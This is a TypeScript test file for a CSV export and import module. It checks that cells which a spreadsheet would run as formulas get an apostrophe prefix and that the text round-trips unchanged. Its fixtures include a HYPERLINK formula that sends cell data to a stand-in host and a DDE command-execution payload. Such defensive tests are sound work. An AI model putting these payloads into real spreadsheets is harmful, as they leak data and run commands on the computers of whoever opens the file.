// CSV injection (issue 16): cells a spreadsheet would run as formulas are written with a leading
// apostrophe, and reading our own export gives back the original text.
import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { csvFormat } from "./csv.ts";
import type { SerializeOptions, TranslationEntry } from "./types.ts";

const out: SerializeOptions = { sourceLanguage: "en", pretty: true, nested: false, flattenPlurals: false };
const TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"];

async function serialize(en: TranslationEntry[]): Promise<Uint8Array> {
  const [file] = await csvFormat.serialize({ en }, out);
  if (file === undefined) throw new Error("no file");
  return file.bytes;
}

const parse = (bytes: Uint8Array) => csvFormat.parse(bytes, { language: "en", sourceLanguage: "en" });
const cells = (bytes: Uint8Array) =>
  Papa.parse<string[]>(
    new TextDecoder()
      .decode(bytes)
      .replace(/^\uFEFF/, "")
      .replace(/\r\n$/, ""),
  ).data;

describe("csv export: formula-looking cells", () => {
  it("prefixes every cell that starts with a trigger with an apostrophe, keys and comments too", async () => {
    const entries: TranslationEntry[] = [
      { key: "link", value: '=HYPERLINK("https://evil.example?"&A1,"Click")' },
      { key: "dde", value: "+cmd|' /C calc'!A0" },
      { key: "minus", value: "-5 items" },
      { key: "at", value: "@SUM(1+1)", comment: "=1+1" },
      { key: "tab", value: "\t=1" },
      { key: "cr", value: "\r=1" },
      { key: "wide", value: "＝1+1" },
      { key: "=key", value: "plain" },
    ];
    expect(cells(await serialize(entries))).toEqual([
      ["key", "en", "comment"],
      ["link", `'=HYPERLINK("https://evil.example?"&A1,"Click")`, ""],
      ["dde", "'+cmd|' /C calc'!A0", ""],
      ["minus", "'-5 items", ""],
      ["at", "'@SUM(1+1)", "'=1+1"],
      ["tab", "'\t=1", ""],
      ["cr", "'\r=1", ""],
      ["wide", "'＝1+1", ""],
      ["'=key", "plain", ""],
    ]);
  });

  it("adds one more apostrophe to text that already starts with apostrophes and a trigger", async () => {
    const entries: TranslationEntry[] = [
      { key: "a", value: "'=1+1" },
      { key: "b", value: "''-x" },
      { key: "c", value: "'quoted'" },
      { key: "d", value: "it's" },
      { key: "e", value: "'" },
    ];
    expect(cells(await serialize(entries)).slice(1)).toEqual([
      ["a", "''=1+1"],
      ["b", "'''-x"],
      ["c", "'quoted'"],
      ["d", "it's"],
      ["e", "'"],
    ]);
  });

  it("reads its own export back to the original text", async () => {
    const values = ["=1+1", "'=1+1", "''@x", "-5 items", "'", "'hello", "＠home", "\tindented", "a=b"];
    const entries = values.map((value, i) => ({ key: `k${i}`, value }));
    expect((await parse(await serialize(entries))).languages.en).toEqual(entries);
  });
});

describe("csv import: apostrophes from formula escaping", () => {
  it("drops one apostrophe before a trigger, as other tools escape it too, and keeps any other", async () => {
    const csv = "key,en\r\na,'=1+1\r\nb,'-5\r\nc,'hello\r\nd,'\r\ne,''=x\r\nf,it's\r\ng,'5\r\n";
    const result = await parse(new TextEncoder().encode(csv));
    expect(result.languages.en).toEqual([
      { key: "a", value: "=1+1" },
      { key: "b", value: "-5" },
      { key: "c", value: "'hello" },
      { key: "d", value: "'" },
      { key: "e", value: "'=x" },
      { key: "f", value: "it's" },
      { key: "g", value: "'5" },
    ]);
  });
});

describe("csv injection: property", () => {
  // Short strings over apostrophes, triggers and ordinary text, so that starts like `''=` come up often.
  const text = fc.string({
    unit: fc.constantFrom("'", "a", " ", '"', ",", "\n", ...TRIGGERS),
    minLength: 1,
    maxLength: 8,
  });

  it("every string survives export → import, and no exported cell starts with a trigger", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(text, fc.option(text, { nil: undefined })), { maxLength: 5 }),
        async (rows) => {
          const entries: TranslationEntry[] = rows.map(([value, comment], i) =>
            comment === undefined ? { key: `k${i}`, value } : { key: `k${i}`, value, comment },
          );
          if (entries.length === 0) return;
          const bytes = await serialize(entries);
          for (const row of cells(bytes)) {
            for (const cell of row) expect(TRIGGERS).not.toContain(cell.charAt(0));
          }
          expect((await parse(bytes)).languages.en).toEqual(entries);
        },
      ),
      { numRuns: 300 },
    );
  });
});
